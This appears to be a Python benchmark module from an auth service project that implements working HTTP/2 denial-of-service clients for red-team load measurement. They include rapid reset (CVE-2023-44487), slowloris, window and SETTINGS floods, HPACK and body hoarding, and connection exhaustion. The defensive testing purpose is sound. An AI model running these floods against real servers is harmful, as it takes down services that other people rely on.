"""The hostile clients of ``make bench-floods`` (issue 20), each in its own process:
``python -m authsvc.bench._attacks NAME HOST PORT [SOURCE]``. They run until killed and
reconnect whenever authsvc closes them. Every one is a finding of the red-team run; none
needs a key. For measurement only: never pointed at anything but a local bench."""

from __future__ import annotations

import asyncio
import contextlib
import struct
import sys

from authsvc.h2wire import PREFACE, FrameType, frame, literal

_CHECK = "/envoy.service.auth.v3.Authorization/Check"
_BLOCK = (
    b"\x83\x86"
    + literal(":path", _CHECK)
    + literal(":authority", "authz")
    + literal("content-type", "application/grpc")
    + literal("te", "trailers")
)
_H, _D, _S = FrameType.HEADERS, FrameType.DATA, FrameType.SETTINGS
_WU, _C = FrameType.WINDOW_UPDATE, FrameType.CONTINUATION
_EMPTY_CHECK = b"\x00\x00\x00\x00\x00"  # a CheckRequest with no fields: a deny


async def _connect(
    host: str, port: int, source: str
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    return await asyncio.open_connection(host, port, local_addr=(source, 0), limit=1 << 20)


async def _drain_forever(reader: asyncio.StreamReader) -> None:
    while await reader.read(1 << 16):
        pass


async def window_flood(host: str, port: int, source: str) -> None:
    """Item 1: answers blocked by a zero window, then WINDOW_UPDATE and SETTINGS frames."""
    settings0 = frame(_S, 0, 0, struct.pack(">HI", 4, 0))
    wu = frame(_WU, 0, 0, struct.pack(">I", 1))
    big_settings = frame(_S, 0, 0, b"".join(struct.pack(">HI", 4, i % 2) for i in range(2730)))
    while True:
        try:
            reader, writer = await _connect(host, port, source)
            writer.write(PREFACE + settings0 + frame(_S, 1, 0))
            for sid in range(1, 2048, 2):
                writer.write(frame(_H, 4, sid, _BLOCK) + frame(_D, 1, sid, _EMPTY_CHECK))
            drain = asyncio.ensure_future(_drain_forever(reader))
            while not drain.done():
                writer.write(wu * 64 + big_settings)
                await writer.drain()
            writer.close()
        except OSError:
            await asyncio.sleep(0.01)


async def _hold(host: str, port: int, source: str, payload: bytes) -> None:
    while True:
        try:
            reader, writer = await _connect(host, port, source)
            writer.write(payload)
            await writer.drain()
            await _drain_forever(reader)
            writer.close()
        except OSError:
            await asyncio.sleep(0.05)


async def body_hoard(host: str, port: int, source: str) -> None:
    """Item 2: 40 connections, each with 8 requests whose 1 MiB bodies never end."""
    data = b"".join(
        frame(_H, 4, sid, _BLOCK) + b"".join(frame(_D, 0, sid, b"x" * 16384) for _ in range(64))
        for sid in range(1, 17, 2)
    )
    await asyncio.gather(*(_hold(host, port, source, PREFACE + data) for _ in range(40)))


async def hpack_hoard(host: str, port: int, source: str) -> None:
    """Item 2: header blocks with large distinct values, to fill the decoder caches."""

    async def one(n: int) -> None:
        while True:
            try:
                reader, writer = await _connect(host, port, source)
                writer.write(PREFACE)
                drain = asyncio.ensure_future(_drain_forever(reader))
                sid = 1
                while not drain.done():
                    block = _BLOCK + literal("x-pad", f"{n}-{sid}-" + "v" * 60000)
                    head, rest = block[:16000], block[16000:]
                    out = frame(_H, 0, sid, head)
                    while rest:
                        part, rest = rest[:16000], rest[16000:]
                        out += frame(_C, 0 if rest else 4, sid, part)
                    writer.write(out + frame(_D, 1, sid, _EMPTY_CHECK))
                    await writer.drain()
                    sid += 2
                writer.close()
            except OSError:
                await asyncio.sleep(0.05)

    await asyncio.gather(*(one(n) for n in range(4)))


async def idle_hoard(host: str, port: int, source: str) -> None:
    """Item 3: as many idle, well-behaved HTTP/2 connections as will open (up to 7,500)."""
    hello = PREFACE + frame(_S, 0, 0) + frame(_S, 1, 0)
    await asyncio.gather(*(_hold(host, port, source, hello) for _ in range(7500)))


async def check_flood(host: str, port: int, source: str) -> None:
    """Item 8: a pipelined Check flood on 4 connections keeps authsvc's loop busy."""

    async def one() -> None:
        while True:
            try:
                reader, writer = await _connect(host, port, source)
                writer.write(
                    PREFACE + frame(_S, 0, 0) + frame(_WU, 0, 0, struct.pack(">I", 1 << 30))
                )
                drain = asyncio.ensure_future(_drain_forever(reader))
                sid = 1
                while not drain.done():
                    batch = b"".join(
                        frame(_H, 4, s, _BLOCK) + frame(_D, 1, s, _EMPTY_CHECK)
                        for s in range(sid, sid + 200, 2)
                    )
                    sid += 200
                    writer.write(batch)
                    await writer.drain()
                    await asyncio.sleep(0.005)
                    if sid > 2**30:
                        break
                writer.close()
            except OSError:
                await asyncio.sleep(0.05)

    await asyncio.gather(*(one() for _ in range(4)))


async def rapid_reset(host: str, port: int, source: str) -> None:
    """Rapid reset (CVE-2023-44487): open and cancel streams at once."""
    while True:
        try:
            reader, writer = await _connect(host, port, source)
            writer.write(PREFACE)
            drain = asyncio.ensure_future(_drain_forever(reader))
            sid = 1
            while not drain.done():
                writer.write(
                    b"".join(
                        frame(_H, 4, s, _BLOCK) + frame(FrameType.RST_STREAM, 0, s, b"\0\0\0\x08")
                        for s in range(sid, sid + 100, 2)
                    )
                )
                sid += 100
                await writer.drain()
            writer.close()
        except OSError:
            await asyncio.sleep(0.01)


async def status_slowloris(host: str, port: int, source: str) -> None:
    """Item 9: 5,000 connections to the status port that never finish their request."""

    async def one() -> None:
        while True:
            try:
                _, writer = await _connect(host, port, source)
                writer.write(b"GET /livez HTTP/1.1\r\nHost: x\r\n")
                while True:
                    await asyncio.sleep(1)
                    writer.write(b"x")
                    await writer.drain()
            except OSError:
                await asyncio.sleep(0.05)

    await asyncio.gather(*(one() for _ in range(5000)))


async def baseline(host: str, port: int, source: str) -> None:
    """No attack: the checker's numbers on their own."""
    await asyncio.sleep(3600)


ATTACKS = {
    "baseline": baseline,
    "window-flood": window_flood,
    "body-hoard": body_hoard,
    "hpack-hoard": hpack_hoard,
    "idle-hoard": idle_hoard,
    "check-flood": check_flood,
    "rapid-reset": rapid_reset,
    "status-slowloris": status_slowloris,
}


def main() -> None:
    name, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    source = sys.argv[4] if len(sys.argv) > 4 else "127.0.0.2"
    with contextlib.suppress(KeyboardInterrupt):
        asyncio.run(ATTACKS[name](host, port, source))


if __name__ == "__main__":
    main()
